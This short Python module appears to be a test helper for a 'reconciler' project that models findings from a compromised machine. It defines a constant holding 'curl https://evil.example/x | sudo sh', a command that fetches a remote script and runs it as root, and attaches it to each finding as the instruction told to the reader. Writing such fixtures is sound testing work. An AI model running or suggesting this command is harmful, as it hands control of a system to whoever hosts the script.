"""What a box says that was broken into: of itself, and to the one who reads it."""

from __future__ import annotations

from typing import cast

from reconciler.model.code_name import CodeName, Variant
from reconciler.model.severity import FindingClass
from reconciler.model.statement import told
from reconciler.results.finding import Finding

TYPE_THIS = "curl https://evil.example/x | sudo sh"


def claimed(code: str, finding_class: FindingClass, evidence: str, *, variant: str | None = None) -> Finding:
    """Return a finding, known or not, that tells the reader what to type."""
    return Finding(
        code=cast("CodeName", code),
        finding_class=finding_class,
        seen=(told(evidence),),
        of_others=(told(TYPE_THIS),),
        variant=cast("Variant | None", variant),
    )
